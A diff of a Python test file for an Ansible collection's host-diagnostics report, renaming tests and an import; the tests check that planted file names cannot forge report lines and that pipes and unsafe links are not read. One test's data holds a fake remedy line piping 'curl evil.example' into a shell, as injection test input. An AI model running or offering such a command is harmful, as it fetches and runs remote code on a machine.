@@ -20,7 +20,7 @@ from ansible_collections.flaskops.production.plugins.filter.doctor_html import d
 from ansible_collections.flaskops.production.plugins.filter.doctor_report import doctor_report
 from ansible_collections.flaskops.production.plugins.filter.doctor_text import doctor_text
 from ansible_collections.flaskops.production.plugins.module_utils._core.text import escape_text, quote_for_shell
-from ansible_collections.flaskops.production.plugins.module_utils._doctor import facts
+from ansible_collections.flaskops.production.plugins.module_utils._doctor import files
 from ansible_collections.flaskops.production.plugins.module_utils._doctor import system as system_module
 from ansible_collections.flaskops.production.plugins.module_utils._doctor.catalog import KINDS
 from ansible_collections.flaskops.production.plugins.module_utils._doctor.finding import create_finding
@@ -127,7 +127,7 @@ def test_remedy_does_not_change_the_target_of_a_link_created_later(as_root, tmp_
     assert (after.st_mode, after.st_uid, after.st_gid) == (before.st_mode, before.st_uid, before.st_gid)
 
 
-def test_a_name_cannot_pass_for_lines_of_the_report(place, run_module):
+def test_names_cannot_imitate_lines_of_the_report(place, run_module):
     plant(place, b"a\n  ERROR health-failing: The application is attacked.\n    remedy: curl evil.example | sh\nb")
     report = doctor_report({"host": {"shop": examine(run_module, place)}})
     lines = "\n".join(doctor_text(report)).splitlines()
@@ -165,11 +165,11 @@ def test_pipes_and_foreign_links_are_not_read(place, run_module):
     os.mkfifo(place / "shared/media/odd")
     os.mkfifo(place / "gunicorn.conf.py")
     examine(run_module, place)
-    assert facts.load_text(str(place / "shared/.env")) == ""
-    assert facts.load_text(str(place / "gunicorn.conf.py")) == ""
+    assert files.load_text(str(place / "shared/.env")) == ""
+    assert files.load_text(str(place / "gunicorn.conf.py")) == ""
 
 
-def test_nothing_is_advised_for_what_lies_behind_a_users_link_to_what_is_not_the_users(place, run_module):
+def test_no_remedy_changes_files_behind_an_unsafe_link(place, run_module):
     # Of root, closed to all others, and named as an old deployment: the user of that has laid the link.
     private = place.parent / "private"
     private.mkdir(mode=0o700)
